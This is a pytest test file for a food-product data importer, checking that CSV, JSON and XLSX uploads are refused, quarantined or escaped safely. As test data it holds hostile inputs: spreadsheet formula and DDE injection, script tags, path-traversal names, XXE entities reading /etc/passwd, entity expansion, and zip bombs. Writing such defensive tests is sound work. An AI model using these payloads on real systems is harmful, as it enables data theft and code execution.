"""Whatever is handed in ends in a verdict, soon and in bounded memory, and harms nobody."""

import csv
import json
import struct
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest

from off_platform.imports.specification.tables import ACCEPTED, QUARANTINED
from off_platform_tests.imports.broken_records import GOOD, NUTELLA, table
from off_platform_tests.imports.hostile_files import (
    GOOD_CELLS,
    HEADER,
    HEADER_CELLS,
    MEBIBYTE,
    QUARANTINED_FILES,
    REFUSED,
    SOUND,
    in_json,
)
from off_platform_tests.imports.made_files import (
    Examined,
    csv_of,
    demand_consistent,
    examine,
    rows_of,
    text_cell,
    workbook_of,
)

HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Nutella")'
SCRIPT = "<script>alert(1)</script>"

Examine = Callable[[bytes | str, str], Examined]


@pytest.fixture
def examined(tmp_path: Path) -> Examine:
    """A function from the content and name of a file to the outcome."""

    def judge(content: bytes | str, name: str = "x.csv") -> Examined:
        path = tmp_path / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        made = examine(path, tmp_path / "out")
        demand_consistent(made)
        return made

    return judge


@pytest.mark.parametrize("name", REFUSED)
def test_unreadable_files_are_refused_with_a_reason(name: str, examined: Examine) -> None:
    rule, content, file = REFUSED[name]

    made = examined(content, file)

    assert made.verdict.refused is not None
    assert made.verdict.refused.rule == rule
    assert made.findings[0]["rule"] == rule
    assert made.copy is None


@pytest.mark.parametrize("name", QUARANTINED_FILES)
def test_an_impossible_record_is_quarantined(name: str, examined: Examine) -> None:
    rule, content, file = QUARANTINED_FILES[name]

    made = examined(content, file)

    assert made.verdict.refused is None
    assert made.verdict.accepted == 0
    assert all(rule in record["rules"] for record in made.rows(QUARANTINED))


def test_lone_surrogates_are_reported_and_kept_out_of_the_tables(examined: Examine) -> None:
    text = f'[{{"barcode": "{NUTELLA}", "product_name": "Nut\\ud800ella", "x\\udc00": "\\udfff"}}]'

    made = examined(text, "x.json")

    assert made.verdict.counts == {"text_replacement_character": 1, "unknown_column": 1}
    assert made.rows(ACCEPTED)[0]["product_name"] == "Nut\ufffdella"
    assert made.copy is not None
    assert json.loads(made.copy.read_bytes()) == json.loads(text)


def test_direction_marks_are_reported_and_shown(examined: Examine) -> None:
    marked = SOUND.replace("Nutella", "\u202ealletuN").replace(NUTELLA, f"\u200f{NUTELLA}", 1)

    made = examined(marked, "x.csv")

    assert made.verdict.counts == {"text_invisible_character": 2}
    [accepted] = made.rows(ACCEPTED)
    assert (accepted["barcode"], accepted["product_name"]) == (NUTELLA, "alletuN")
    assert "\u202e" not in made.report
    assert "\\u202ealletuN" in made.report


# Every way in which a spreadsheet is made to compute.
FORMULAS = (HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=cmd|"/C calc"!A0', "\t=A1&B1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_texts_in_tables_and_harmless_in_outputs(
    formula: str, examined: Examine
) -> None:
    texts = {**GOOD, "brand": "x", "fat": formula, "generic_name": formula}

    made = examined(csv_of(list(texts), list(texts.values())), "x.csv")

    assert made.rows(QUARANTINED)[0]["record"][-1] == ("generic_name", formula)
    for path in (made.folder / "findings.csv", made.copy):
        assert path is not None
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    book = openpyxl.load_workbook(made.folder / "findings.xlsx")
    types = {cell.data_type for row in book.worksheets[0] for cell in row}
    assert "f" not in types


def test_formulas_in_workbooks_stay_texts(examined: Examine, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append([*HEADER_CELLS, "fat"])
    book.active.append([NUTELLA, "x", "0,5"])
    book.active["B2"].value = HYPERLINK
    book.active["B2"].data_type = "s"
    book.save(tmp_path / "made.xlsx")

    made = examined((tmp_path / "made.xlsx").read_bytes(), "x.xlsx")

    assert made.copy is not None
    sheet = openpyxl.load_workbook(made.copy).worksheets[0]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (HYPERLINK, "s")
    assert sheet["C2"].value == 0.5


def test_a_formula_without_a_stored_value_is_named(examined: Examine) -> None:
    formula = f"<c><f>1+1</f></c>{text_cell('Nutella')}"

    made = examined(workbook_of(f"{rows_of(HEADER_CELLS)}<row>{formula}</row>"), "x.xlsx")

    assert made.verdict.counts == {"identifier_missing": 1, "formula_without_value": 1}


def test_markup_is_shown_and_never_run(examined: Examine) -> None:
    columns = {"generic_name": SCRIPT, "fat": SCRIPT, SCRIPT: "1", "categories": f"{SCRIPT},,"}

    made = examined(table({**GOOD, **columns}), "<script>x.csv")

    assert "<script>alert" not in made.report.lower()
    assert "&lt;script&gt;alert(1)" in made.report
    assert "&lt;script&gt;x.csv" in made.report


NAMES = ("..", "../x", "....//x.csv", "a'b;--.csv", "x.csv\nx", "C:\\x.csv", "%2e%2e%2f.csv")


@pytest.mark.parametrize("name", [*NAMES, "\udcff.csv"])
def test_names_of_files_are_not_paths(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "import"
    folder.mkdir()
    path = folder / (name.replace("/", "\u2215") if name != ".." else "...")
    path.write_bytes(SOUND.encode())
    before = sorted(tmp_path.iterdir())

    made = examine(path, folder / "out")

    demand_consistent(made)
    assert made.verdict.accepted == 1
    assert sorted(tmp_path.iterdir()) == before
    assert sorted(folder.iterdir()) == sorted([path, folder / "out"])


def test_texts_like_paths_stay_texts(examined: Examine) -> None:
    path = "../../../etc/passwd"

    made = examined(table({**GOOD, "generic_name": path, path: "1"}), "x.csv")

    assert made.rows(ACCEPTED)[0]["generic_name"] == path
    assert made.verdict.counts == {"unknown_column": 1}


@pytest.mark.slow
def test_a_long_line_is_never_held(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(HEADER.encode() + b"x" * (160 * MEBIBYTE))
    examine(path, tmp_path / "warm")

    assert _peak(path, tmp_path / "out") < 80 * MEBIBYTE


def _peak(path: Path, folder: Path) -> int:
    """The most memory that Python held while a file was examined, in bytes."""
    tracemalloc.start()
    try:
        examine(path, folder)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
def test_a_workbook_that_unpacks_to_gigabytes_is_not_unpacked(
    examined: Examine, tmp_path: Path
) -> None:
    path = tmp_path / "made.xlsx"
    path.write_bytes(workbook_of(rows_of(HEADER_CELLS, GOOD_CELLS)))
    blank = b"<row></row>" * (MEBIBYTE // 11)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet2.xml", "w") as file,
    ):
        for _ in range(200):
            file.write(blank)
    with zipfile.ZipFile(path) as archive:
        start = archive.getinfo("xl/worksheets/sheet2.xml").header_offset
    content = bytearray(path.read_bytes())
    # Whoever unpacked it would find it damaged.
    content[start + 100 : start + 100_000] = bytes(99_900)

    made = examined(bytes(content), "x.xlsx")

    assert made.verdict.counts == {"xlsx_too_large": 1}


@pytest.mark.slow
def test_a_workbook_with_a_false_size_is_refused(examined: Examine) -> None:
    content = bytearray(workbook_of(rows_of(HEADER_CELLS) + rows_of(GOOD_CELLS) * 100_000))
    name = b"xl/worksheets/sheet1.xml"
    entry = content.rindex(name) - 46
    assert content[entry : entry + 4] == b"PK\x01\x02"
    struct.pack_into("<I", content, entry + 24, 300)

    made = examined(bytes(content), "x.xlsx")

    assert made.verdict.counts == {"xlsx_damaged": 1}


ENTITIES = {
    "a file of ours": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "an address": '<!DOCTYPE x SYSTEM "http://localhost:9/x.dtd">',
    "a text that grows": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    + '<!ENTITY e "&j;">]>',
}  # fmt: skip


@pytest.mark.parametrize("name", ENTITIES)
def test_entities_are_never_resolved(name: str, examined: Examine) -> None:
    entity = "" if "address" in name else "&e;"
    rows = rows_of(HEADER_CELLS, (NUTELLA, f"Nutella{entity}"))

    made = examined(workbook_of(rows, prologue=ENTITIES[name]), "x.xlsx")

    assert made.verdict.counts == {"xlsx_damaged": 1}
    assert "declares a document type" in made.findings[0]["message"]
    assert "root:" not in made.report


def test_links_of_a_workbook_are_not_followed(examined: Examine) -> None:
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="file:///etc/passwd" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/>'
        "</Relationships>"
    )
    others = {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": link,
    }

    made = examined(workbook_of(rows_of(HEADER_CELLS, GOOD_CELLS), others=others), "x.xlsx")

    assert (made.verdict.accepted, made.verdict.counts) == (1, {})


def test_names_of_sheets_may_be_any(examined: Examine) -> None:
    name = "History: [a]/*?\\ that is longer than Excel allows"
    sheets = "".join(
        f'<sheet name="{name}" sheetId="{n}" r:id="rId1"/>' for n in (1, 2)
    )  # fmt: skip
    book = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http:'
        '//schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<sheets>{sheets}</sheets></workbook>"
    )
    rows = rows_of((*HEADER_CELLS, "fat"), (*GOOD_CELLS, "0,5"))

    made = examined(workbook_of(rows, others={"xl/workbook.xml": book}), "x.xlsx")

    assert made.copy is not None
    with ZipFile(made.copy) as copy:
        assert copy.read("xl/workbook.xml").decode() == book


@pytest.mark.parametrize("name", ["x.csv", "x.json"])
def test_no_number_counts_as_missing(name: str, tmp_path: Path) -> None:
    content = SOUND.replace("30.9", "NaN") if name == "x.csv" else in_json(fat=float("nan"))
    (tmp_path / name).write_text(content)

    made = examine(tmp_path / name, tmp_path / "made")

    assert (made.verdict.accepted, made.verdict.counts) == (1, {"missing_marker": 1})
    assert made.rows(ACCEPTED)[0]["fat_g"] is None
